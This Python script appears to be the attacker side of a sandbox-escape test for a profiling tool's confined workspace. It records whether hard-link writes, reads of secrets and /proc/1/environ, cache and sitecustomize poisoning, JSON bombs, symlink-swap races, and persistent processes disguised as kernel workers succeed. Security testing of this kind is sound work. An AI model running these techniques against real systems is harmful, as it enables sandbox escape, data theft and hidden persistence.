"""The confined side of probe 3 (run by profile_command in the probe's workspace, cwd ``sub``):
``python atk3.py NAME [args]`` writes ``results/NAME.json`` (each attempt: "OK: ..." or "ERR: ...").
New variants only (probe/ and probe2/ hold the earlier ones)."""
import json, os, signal, subprocess, sys, time
from pathlib import Path

CFG = json.loads(Path("probe_cfg.json").read_text())
V, WS, WS2, HOME = Path(CFG["victim"]), Path(CFG["ws"]), Path(CFG["ws2"]), Path(CFG["home"])
out = {}


def rec(key, fn):
    try:
        out[key] = "OK: " + repr(fn())[:200]
    except BaseException as e:  # noqa: BLE001
        out[key] = f"ERR: {type(e).__name__}: {e}"[:240]


def a_links():
    """Hard links that would give a protected or outside file more rights, renames/unlinks at the
    workspace root, special files made outside."""
    prof = sorted((WS / "out" / "profiles").rglob("params.json"))
    for name, src in (("git_config", WS / ".git" / "config"), ("devlog", WS / "docs" / "kernels" / "x.md"),
                      ("other_profile_params", prof[0] if prof else WS / "nope"),
                      ("etc_hostname", Path("/etc/hostname")), ("ws2_secret", WS2 / "secret.txt")):
        dst = Path(f"hl_{name}")
        rec(f"hardlink_{name}_into_cwd", lambda s=src, d=dst: os.link(s, d))
        if dst.exists():
            rec(f"write_through_hardlink_{name}", lambda d=dst: open(d, "a").write("PWN3\n"))
    Path("mine.txt").write_text("mine\n")
    rec("rename_own_file_over_ws_root_keep_txt", lambda: os.replace("mine.txt", WS / "keep.txt"))
    rec("unlink_ws_root_keep_txt", lambda: os.unlink(WS / "keep.txt"))
    rec("rename_ws_root_keep_txt_into_cwd", lambda: os.rename(WS / "keep.txt", "stolen_keep.txt"))
    rec("rename_devlog_dir_away", lambda: os.rename(WS / "docs" / "kernels", WS / "docs" / "k2"))
    rec("mkfifo_in_victim", lambda: os.mkfifo(V / "fifo3"))
    rec("symlink_in_victim", lambda: os.symlink("/etc/passwd", V / "link3"))
    rec("mkdir_in_victim", lambda: os.mkdir(V / "dir3"))
    rec("bind_unix_socket_in_victim", lambda: __import__("socket").socket(1).bind(str(V / "sock3")))
    rec("O_TMPFILE_in_victim", lambda: os.open(V, os.O_TMPFILE | os.O_WRONLY, 0o600))
    rec("copy_file_range_into_ws2", lambda: os.copy_file_range(os.open("probe_cfg.json", os.O_RDONLY),
                                                                os.open(WS2 / "secret.txt", os.O_WRONLY), 10))
    rec("truncate_via_proc_fd_of_O_PATH_victim",
        lambda: open(f"/proc/self/fd/{os.open(V / 'secret.txt', os.O_PATH)}", "w").write("x"))


def a_reads():
    rec("read_home_secret", lambda: (HOME / "secret.txt").read_text())
    rec("read_ws2_secret", lambda: (WS2 / "secret.txt").read_text())
    rec("listdir_run", lambda: sorted(os.listdir("/run")))
    rec("listdir_run_user", lambda: sorted(os.listdir("/run/user")))
    rec("read_interpreter_prefix_listing", lambda: sorted(os.listdir(sys.base_prefix))[:6])
    rec("read_kprof_root_git_HEAD", lambda: Path(CFG["kprof_root"], ".git", "HEAD").read_text()[:40])
    rec("listdir_kprof_root_out", lambda: sorted(os.listdir(Path(CFG["kprof_root"], "out")))[:5])
    rec("read_dev_shm_outside_file", lambda: Path(CFG["shm_file"]).read_text())
    rec("read_run_lock_outside_file", lambda: Path(CFG["run_lock_file"]).read_text())
    rec("listdir_tmp_kprof_kernels", lambda: [p for p in os.listdir("/tmp") if p.startswith("kprof")])
    rec("read_proc_1_environ", lambda: open("/proc/1/environ", "rb").read()[:60])
    rec("read_proc_1_cmdline", lambda: open("/proc/1/cmdline", "rb").read()[:60])


def a_code():
    """Code from outside the workspace: loaders, zip imports, started processes' environment."""
    import importlib.machinery, zipimport
    rec("SourceFileLoader_victim_evil", lambda: importlib.machinery.SourceFileLoader("evil3", str(V / "evil3.py")).load_module())
    rec("zipimport_victim_zip", lambda: zipimport.zipimporter(str(V / "evil3.zip")).load_module("evil3z"))
    rec("zipimport_dev_shm_zip", lambda: zipimport.zipimporter(CFG["shm_zip"]).load_module("evil3z"))
    rec("runpy_run_lock_py", lambda: __import__("runpy").run_path(CFG["run_lock_py"]))
    env = {**os.environ, "PYTHONPATH": str(V), "PYTHONSTARTUP": str(V / "evil3.py"), "PYTHONINSPECT": "1"}
    rec("child_PYTHONPATH_victim_import", lambda: subprocess.run([sys.executable, "-c", "import evil3"], env=env,
                                                                capture_output=True, text=True, timeout=30).stderr[-120:])
    env2 = {**os.environ, "PYTHONUSERBASE": str(V), "PYTHONNOUSERSITE": ""}
    rec("child_PYTHONUSERBASE_victim_pth", lambda: subprocess.run([sys.executable, "-c", "import sys; print(sys.path[-3:])"],
                                                                  env=env2, capture_output=True, text=True, timeout=30).stdout[-160:])
    # the kernel children's caches (Triton/Inductor): this workspace's and another's
    base = HOME / ".cache" / "kprof-mcp" / "confined"
    for key, h in (("own", CFG["cache_hash_ws"]), ("ws2", CFG["cache_hash_ws2"])):
        d = base / h / "triton"
        rec(f"write_kernel_cache_{key}", lambda d=d: (d.mkdir(parents=True, exist_ok=True), (d / "poison.py").write_text("x")))
    rec("write_user_site_pth", lambda: Path(CFG["user_site"]).mkdir(parents=True, exist_ok=True))
    # the multi-rank hook's directory (its private tmp): rewrite it, then start a process
    hook = [p for p in sys.path if "kprof-ranks" in p]
    out["rank_hook_dirs"] = hook
    if hook:
        rec("rewrite_rank_hook_then_child", lambda: ((Path(hook[0]) / "sitecustomize.py").write_text(
            f"open({str(V / 'rankhook_pwn.txt')!r}, 'w').write('x')\n"),
            subprocess.run([sys.executable, "-c", "pass"], capture_output=True, text=True, timeout=30).stderr[-160:]))


def a_result(kind):
    """Replace the record the child writes for the server (same interpreter: patch Path.write_text)."""
    import pathlib
    orig = pathlib.Path.write_text

    def payload():
        if kind == "nested":
            return "[" * 200000 + "]" * 200000
        if kind == "dicts":  # ~64 MiB of empty objects: the server's json.loads
            n = int(CFG.get("dicts_mb", 60)) * (1 << 20) // 3
            return '{"status": "ok", "x": [' + "{}," * (n - 1) + "{}]}"
        if kind == "nested_dict":
            return '{"a":' * 100000 + "1" + "}" * 100000

    def wt(self, data, *a, **k):
        if self.name == "result.json":
            data = payload()
        return orig(self, data, *a, **k)
    pathlib.Path.write_text = wt
    out["patched"] = kind


def a_stay():
    """Processes that try to outlive the job: stopped, renamed, environment cleared, own session. Each
    grandchild records its own pid and start time in the cwd (read outside after the job)."""
    f = Path(CFG["stay_file"])
    f.write_text("")
    for how in ("stopped", "renamed", "noenv"):
        pid = os.fork()
        if pid == 0:
            os.setsid()
            if os.fork():
                os._exit(0)
            st = open("/proc/self/stat").read().rsplit(")", 1)[1].split()
            with open(f, "a") as fh:
                fh.write(json.dumps([os.getpid(), int(st[19]), how]) + "\n")
            if how == "stopped":
                os.kill(os.getpid(), signal.SIGSTOP)
            if how == "renamed":
                import ctypes
                ctypes.CDLL(None).prctl(15, b"kworker/0:1", 0, 0, 0)
            if how == "noenv":
                os.execve("/bin/sleep", ["sleep", "300"], {})
            time.sleep(300)
            os._exit(0)
        os.waitpid(pid, 0)
    time.sleep(0.5)
    out["stay"] = f.read_text()


def a_many(n="100000"):
    d = Path("many")
    d.mkdir(exist_ok=True)
    t = time.time()
    for i in range(int(n)):
        (d / f"f{i}.py").write_bytes(b"")
    out["made"] = int(n)
    out["secs"] = round(time.time() - t, 1)


def a_swap(mid="mid"):
    """Job A: replace sub/<mid> (a directory a queued job B will run in) by a link to outside."""
    time.sleep(3)
    rec("rename_mid", lambda: os.rename(mid, mid + ".orig"))
    rec("symlink_mid", lambda: os.symlink(str(V / "swap"), mid))


def a_noop():
    pass


def a_cleanup(*names):
    import shutil
    for n in names:
        p = Path(n)
        if p.is_symlink() or p.is_file():
            p.unlink()
        elif p.is_dir():
            shutil.rmtree(p)
        if Path(n + ".orig").exists():
            os.rename(n + ".orig", n)


if __name__ == "__main__":
    name = sys.argv[1]
    Path("results").mkdir(exist_ok=True)
    try:
        globals()["a_" + name](*sys.argv[2:])
    finally:
        try:
            out["cwd"] = os.getcwd()
            Path("results", name + ".json").write_text(json.dumps(out, default=str))
        except OSError:
            pass
    import kprof
    with kprof.range("probe3"):
        sum(range(1000))
